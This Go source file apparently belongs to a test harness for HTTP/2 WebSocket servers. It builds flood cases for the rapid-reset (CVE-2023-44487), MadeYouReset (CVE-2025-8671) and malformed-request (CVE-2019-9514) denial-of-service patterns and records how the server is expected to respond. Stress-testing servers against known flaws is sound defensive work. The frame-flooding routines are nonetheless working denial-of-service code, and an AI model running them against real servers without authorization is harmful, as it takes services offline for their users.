package attack

import (
	"time"

	"h2ws/bench/raw"
	"h2ws/engine/frame"
	"h2ws/ws"
)

// resets are streams that do not last.
func resets() []attack {
	rapid := func(name string, batch int) attack {
		return attack{name: name, about: "WebSockets opened and reset (rapid reset, CVE-2023-44487)", want: calms, run: func(a *assault) *observed {
			block := raw.Block(a.target.Handshake())
			return a.flood(manner{}, 100_000/batch, func(b []byte, i int) []byte {
				first := uint32(i*batch)*2 + 1
				for k := range batch {
					b = frame.AppendHeaders(b, first+uint32(k)*2, frame.FlagEndHeaders, block)
				}
				for k := range batch {
					b = frame.AppendRSTStream(b, first+uint32(k)*2, frame.Cancel)
				}
				return b
			})
		}}
	}
	made := func(name, about string, then func(b []byte, id uint32) []byte) attack {
		return attack{name: "fault/" + name, about: about + ", which the server resets (MadeYouReset, CVE-2025-8671)", want: calms, run: func(a *assault) *observed {
			block := raw.Block(a.target.Handshake())
			return a.flood(manner{}, 20_000, func(b []byte, i int) []byte {
				id := uint32(i)*2 + 1
				return then(frame.AppendHeaders(b, id, frame.FlagEndHeaders, block), id)
			})
		}}
	}
	malformed := raw.Block([]raw.Field{{Name: ":method", Value: "CONNECT"}, {Name: ":method", Value: "CONNECT"}})
	trailers := raw.Block([]raw.Field{{Name: "x-trailer", Value: "1"}})
	return []attack{
		rapid("reset/1-by-1", 1), rapid("reset/10-by-10", 10), rapid("reset/500-by-500", 500),
		made("window-update-0", "WINDOW_UPDATE 0 on a WebSocket", func(b []byte, id uint32) []byte { return frame.AppendWindowUpdate(b, id, 0) }),
		made("window-overflow", "WINDOW_UPDATE beyond 2^31-1 on a WebSocket", func(b []byte, id uint32) []byte { return frame.AppendWindowUpdate(b, id, 1<<31-1) }),
		made("data-behind-end", "DATA behind END_STREAM", func(b []byte, id uint32) []byte {
			return frame.AppendData(frame.AppendData(b, id, frame.FlagEndStream, nil), id, 0, []byte("x"))
		}),
		made("fields-without-end", "HEADERS without END_STREAM on a WebSocket", func(b []byte, id uint32) []byte {
			return frame.AppendHeaders(b, id, frame.FlagEndHeaders, trailers)
		}),
		made("priority-of-4-octets", "a PRIORITY of 4 octets", func(b []byte, id uint32) []byte {
			return append(frame.AppendHeader(b, frame.Header{Length: 4, Type: frame.Priority, StreamID: id}), 0, 0, 0, 0)
		}),
		{name: "fault/behind-goaway", about: "a client that says GOAWAY, and then has its streams reset", want: either(calms, ends), run: func(a *assault) *observed {
			block := raw.Block(a.target.Handshake())
			return a.flood(manner{}, 20_000, func(b []byte, i int) []byte {
				id := uint32(i)*2 + 1
				if i == 100 {
					b = frame.AppendGoAway(b, 0, frame.NoError, nil)
				}
				return frame.AppendWindowUpdate(frame.AppendHeaders(b, id, frame.FlagEndHeaders, block), id, 0)
			})
		}},
		{name: "fault/malformed", about: "malformed requests, which the server resets (CVE-2019-9514)", want: calms, run: func(a *assault) *observed {
			return a.flood(manner{}, 20_000, func(b []byte, i int) []byte {
				return frame.AppendHeaders(b, uint32(i)*2+1, frame.FlagEndHeaders, malformed)
			})
		}},
		{name: "closed/data", about: "padded DATA on streams that were reset: the connection's credit must come back", want: either(survives, stops), run: func(a *assault) *observed { return a.closed(closedData) }},
		{name: "closed/window-update", about: "WINDOW_UPDATE on streams that were reset", want: either(survives, stops), run: func(a *assault) *observed {
			return a.closed(func(b []byte, id uint32) []byte { return frame.AppendWindowUpdate(b, id, 1) })
		}},
		{name: "closed/reset", about: "RST_STREAM on streams that were reset", want: either(survives, stops), run: func(a *assault) *observed {
			return a.closed(func(b []byte, id uint32) []byte { return frame.AppendRSTStream(b, id, frame.Cancel) })
		}},
	}
}

func closedData(b []byte, id uint32) []byte {
	return frame.AppendData(b, id, frame.FlagPadded, append([]byte{200}, make([]byte, 220)...))
}

// closed opens and resets some streams, and goes on about them.
func (a *assault) closed(throw func(b []byte, id uint32) []byte) *observed {
	const streams = 50
	f, failed := a.opened(manner{}, streams)
	if failed != nil {
		return failed
	}
	var b []byte
	for i := range uint32(streams) {
		b = frame.AppendWindowUpdate(b, 2*i+1, 0) // the server resets it, and must bear what was on its way
	}
	f.send(b)
	f.awaitSoon(func(t *tally) bool { return t.resets[frame.ProtocolError] >= streams })
	begin := time.Now()
	blocked := f.flood(a.n(100_000), a.time(), func(b []byte, i int) []byte { return throw(b, uint32(i%streams)*2+1) })
	o := observe(f, begin, blocked)
	if !o.alive || o.drains > 0 {
		return o
	}
	if _, ok := f.open(1); !ok {
		o.wrong = "no WebSocket afterwards"
		return o
	}
	f.sendText(f.nextID-2, "hello")
	if !f.awaitSoon(func(t *tally) bool { return t.data > o.data }) {
		o.wrong = "no echo afterwards: the connection's window is used up"
	}
	return o
}

// sendText sends a text message on a stream.
func (f *foe) sendText(id uint32, s string) (blocked, ok bool) {
	return f.send(frame.AppendData(nil, id, 0, ws.AppendMasked(nil, ws.OpText, 0x01020304, []byte(s))))
}
